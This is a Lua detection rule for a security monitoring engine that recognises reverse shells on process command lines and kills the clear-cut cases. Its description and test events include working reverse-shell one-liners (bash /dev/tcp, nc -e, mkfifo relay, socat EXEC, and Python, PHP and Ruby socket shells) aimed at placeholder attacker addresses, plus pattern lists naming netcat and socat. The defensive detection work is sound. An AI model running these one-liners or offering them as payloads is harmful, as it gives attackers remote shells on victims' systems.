-- Reverse shells recognised from the command line of a shell, an
-- interpreter, netcat or socat. One classifier serves the rule and the EQL
-- function lua.is_reverse_shell(command_line).
local K = kestrel
local find = string.find

local function has(s, needle)
  return find(s, needle, 1, true) ~= nil
end

local function first_of(s, needles)
  for i = 1, #needles do
    if find(s, needles[i], 1, true) then return needles[i] end
  end
  return nil
end

local MAX_PARSE = 4096 -- bytes of a command line split into words (the cost is per word)

local NETCAT = K.set { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd" }
local NETCAT_EXEC = K.set { "-e", "-c", "--exec", "--sh-exec", "--lua-exec" }

-- "-nve" or "-lvpe": a cluster of short options that ends with e (the option
-- taking the program). Letters only, so "-e/bin/sh" is handled separately.
local function exec_cluster(w)
  if #w < 3 or w:sub(1, 1) ~= "-" or w:sub(2, 2) == "-" then return false end
  if find(w, "[^%a]", 2) then return false end
  return w:sub(-1) == "e"
end

-- netcat given a program to run: nc -e /bin/sh, ncat --sh-exec, nc -nve sh
local function netcat_exec(cmdline)
  if #cmdline > MAX_PARSE then cmdline = cmdline:sub(1, MAX_PARSE) end
  for _, cmd in ipairs(K.shell_commands(cmdline)) do
    local in_nc = false
    for _, w in ipairs(cmd) do
      if NETCAT[w] or (find(w, "/", 1, true) and NETCAT[K.basename(w)]) then
        in_nc = true
      elseif in_nc then
        if NETCAT_EXEC[w] or exec_cluster(w) or K.startswith(w, "--exec=")
          or K.startswith(w, "--sh-exec=") or K.startswith(w, "-e/") then
          return w
        end
      end
    end
  end
  return nil
end

-- Descriptor duplication onto a /dev/tcp socket: ">& /dev/tcp", "0>&1",
-- "<>/dev/tcp", "<&196". "2>&1", "1>&2" and "&&" alone do not count (a port
-- probe such as `echo > /dev/tcp/db/5432 2>&1 && echo open` has them).
local function dev_tcp_dup(cl)
  if not (has(cl, "/dev/tcp/") or has(cl, "/dev/udp/")) then return nil end
  local rest = cl:gsub("2>&1", " "):gsub("1>&2", " "):gsub("&&", " ")
  return first_of(rest, { ">&", "<&", "&>", "<>" })
end

-- A connection made from script code ...
local CONNECT = { "connect(", "fsockopen(", "tcpsocket.open", "tcpsocket.new", "/inet/tcp/",
  "socket.create_connection", "new-object system.net.sockets.tcpclient" }
-- ... and the code hands the socket to an interactive shell (clear-cut) ...
local SHELL_HANDOFF = { "dup2", "pty.spawn", "sh -i", "bash -i", "open(stdin" }
-- ... or runs a program, perhaps what it read from the socket (alert only).
local RUNS_CODE = { "subprocess", "exec(", "system(", "popen", "proc_open", "passthru",
  "shell_exec", "child_process", "spawn(", "getline", "exec sprintf", "%x(", "/bin/sh", "/bin/bash" }

local NET_TOOLS = { "nc ", "ncat ", "netcat ", "telnet ", "s_client", "socat " }
local SHELLISH = { "sh -i", "bash -i", "/bin/sh", "/bin/bash", "|sh", "| sh", "|bash", "| bash" }

local SOCAT_NET = { "tcp:", "tcp4:", "tcp6:", "tcp-connect:", "tcp4-connect:", "tcp6-connect:",
  "tcp-listen:", "tcp4-listen:", "openssl:", "openssl-connect:", "ssl:", "udp:", "udp-connect:" }
local SOCAT_SHELL = { "exec:/bin/", "exec:sh", "exec:bash", "exec:'sh", "exec:'bash", "exec:'/bin/",
  'exec:"sh', 'exec:"bash', 'exec:"/bin/', "system:sh", "system:bash", "system:/bin/" }

-- The technique, the indicator and whether it is a clear-cut shell, or nil.
local function classify(cmdline)
  if type(cmdline) ~= "string" or #cmdline < 8 then return nil end
  local cl = cmdline:lower()
  local dup = dev_tcp_dup(cl)
  if dup then return "dev_tcp", dup, true end
  local nce = (has(cl, "nc") or has(cl, "netcat")) and netcat_exec(cmdline)
  if nce then return "netcat_exec", nce, true end
  if has(cl, "mkfifo") or has(cl, "mknod") then
    local tool = first_of(cl, NET_TOOLS)
    if tool and first_of(cl, SHELLISH) then return "fifo_relay", tool, true end
  end
  if has(cl, "socat") and (has(cl, "exec:") or has(cl, "system:")) and first_of(cl, SOCAT_NET) then
    local sh = first_of(cl, SOCAT_SHELL)
    if sh then return "socat_exec", sh, true end
    return "socat_exec", "exec:", false
  end
  local conn = first_of(cl, CONNECT)
  if conn then
    local strong = first_of(cl, SHELL_HANDOFF)
    if strong then return "script_socket", conn .. " + " .. strong, true end
    local weak = first_of(cl, RUNS_CODE)
    if weak then return "script_socket", conn .. " + " .. weak, false end
  end
  return nil
end

-- A process start event for the tests below.
local function proc(name, exe, args, parent)
  return {
    event = { category = "process", type = "start", action = "exec" },
    process = {
      name = name, executable = exe, args = args, args_count = #args,
      command_line = table.concat(args, " "),
      parent = { name = parent or "sh" },
    },
    user = { name = "www-data" },
  }
end

rule {
  id = "kestrel-lua-reverse-shell-cmdline",
  name = "Reverse shell on a command line",
  severity = "high",
  tags = { "attack.execution", "attack.t1059.004", "attack.t1059.006",
    "attack.command_and_control", "attack.t1095" },
  description = [[
A shell, interpreter, netcat or socat started with a command line that wires
a network connection to a shell: bash's /dev/tcp with descriptor duplication
(`bash -i >& /dev/tcp/H/P 0>&1`, `exec 5<>/dev/tcp/H/P`), netcat given a
program (`nc -e /bin/sh`, `ncat --sh-exec`, `nc -nve sh`), a named pipe
relaying a shell through nc/telnet/openssl (`mkfifo /tmp/f; sh -i </tmp/f |
nc H P >/tmp/f`), socat with an EXEC/SYSTEM address, and script one-liners
that connect a socket and hand it to a shell (Python socket + dup2/pty.spawn,
Perl Socket + exec, PHP fsockopen + exec, Ruby TCPSocket, awk /inet/tcp).
Clear-cut shells request `kill`: /dev/tcp duplication, netcat -e, fifo
relays, socat EXEC of a shell, script code that connects and hands the
socket to an interactive shell (dup2, pty.spawn, `sh -i`, open(STDIN)).
Weaker shapes only alert: socat running another program, script code that
connects and runs something (subprocess, exec, system, popen, spawn).
The same classifier is the EQL function lua.is_reverse_shell(command_line).
False positives: port probes (`echo > /dev/tcp/db/5432`) do not duplicate a
descriptor and do not match; socat port forwards have no EXEC address;
scripts that open a socket without running code do not match. Health checks
that speak a protocol through `exec 3<>/dev/tcp/...` do match: exclude them
by process.parent.executable in the prefilter.
]],
  prefilter = [[
process where event.type == "start" and
  process.name : ("bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "busybox",
                  "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
                  "python*", "perl*", "php*", "ruby*", "node", "nodejs", "lua*",
                  "awk", "gawk", "mawk", "pwsh") and
  process.command_line : ("*/dev/tcp/*", "*/dev/udp/*", "*nc *", "*ncat *", "*netcat *",
                          "*mkfifo*", "*mknod*", "*connect*", "*fsockopen*",
                          "*TCPSocket*", "*/inet/tcp/*", "*exec:*", "*system:*")
]],
  fields = { "process.command_line", "process.name", "process.parent.name" },
  actions = { "alert", "kill" },
  match = function(e)
    local technique, indicator, clear = classify(e["process.command_line"])
    if not technique then return false end
    return {
      reason = "reverse shell (" .. technique .. ") started by " .. tostring(e["process.name"]),
      data = { technique = technique, indicator = indicator,
        parent = e["process.parent.name"] },
      actions = clear and { "kill" } or nil,
    }
  end,
  tests = {
    { name = "bash -i redirected to /dev/tcp alerts (kill)", expect = 1, events = {
      proc("bash", "/usr/bin/bash", { "bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" }, "php-fpm8.2"),
    } },
    { name = "exec with a read-write /dev/udp descriptor alerts", expect = 1, events = {
      proc("sh", "/usr/bin/dash", { "sh", "-c",
        "0<&196;exec 196<>/dev/udp/198.51.100.9/53; sh <&196 >&196 2>&196" }),
    } },
    { name = "python socket + dup2 + pty alerts (kill)", expect = 1, events = {
      proc("python3", "/usr/bin/python3.11", { "python3", "-c",
        "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
          .. "s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
          .. "pty.spawn(\"/bin/bash\")" }, "bash"),
    } },
    { name = "nc -e /bin/sh alerts (kill)", expect = 1, events = {
      proc("nc", "/usr/bin/nc.traditional", { "nc", "-e", "/bin/sh", "203.0.113.7", "4444" }, "bash"),
    } },
    { name = "ncat clustered -nve inside a shell alerts", expect = 1, events = {
      proc("sh", "/usr/bin/dash", { "sh", "-c", "cd /tmp;ncat -nve /bin/bash 203.0.113.7 443" }),
    } },
    { name = "mkfifo relay through nc alerts (kill)", expect = 1, events = {
      proc("sh", "/usr/bin/dash", { "sh", "-c",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f" }),
    } },
    { name = "php fsockopen + exec alerts (kill)", expect = 1, events = {
      proc("php", "/usr/bin/php8.2", { "php", "-r",
        "$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");" }, "bash"),
    } },
    { name = "socat EXEC of a shell alerts (kill)", expect = 1, events = {
      proc("socat", "/usr/bin/socat", { "socat", "TCP:203.0.113.7:4444",
        "EXEC:/bin/bash,pty,stderr,setsid,sigint,sane" }, "bash"),
    } },
    { name = "ruby socket running what it reads alerts (no kill)", expect = 1, events = {
      proc("ruby", "/usr/bin/ruby3.1", { "ruby", "-rsocket", "-e",
        "c=TCPSocket.new(\"203.0.113.7\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read};end" }, "bash"),
    } },
    { name = "port probe through /dev/tcp does not alert", expect = 0, events = {
      proc("bash", "/usr/bin/bash", { "bash", "-c",
        "timeout 1 bash -c 'echo > /dev/tcp/10.0.0.5/5432' 2>&1 && echo open" }, "check_db.sh"),
    } },
    { name = "python looking up its host name does not alert", expect = 0, events = {
      proc("python3", "/usr/bin/python3.11", { "python3", "-c",
        "import socket; s=socket.create_connection(('db.internal',5432),timeout=2); s.close()" }, "bash"),
    } },
    { name = "nc port scan does not alert", expect = 0, events = {
      proc("nc", "/usr/bin/nc.openbsd", { "nc", "-zv", "db.internal", "5432" }, "bash"),
    } },
    { name = "socat port forward does not alert", expect = 0, events = {
      proc("socat", "/usr/bin/socat", { "socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:127.0.0.1:80" }, "systemd"),
    } },
  },
}

func("is_reverse_shell", function(cmdline)
  if cmdline == nil then return nil end
  return classify(cmdline) ~= nil
end)
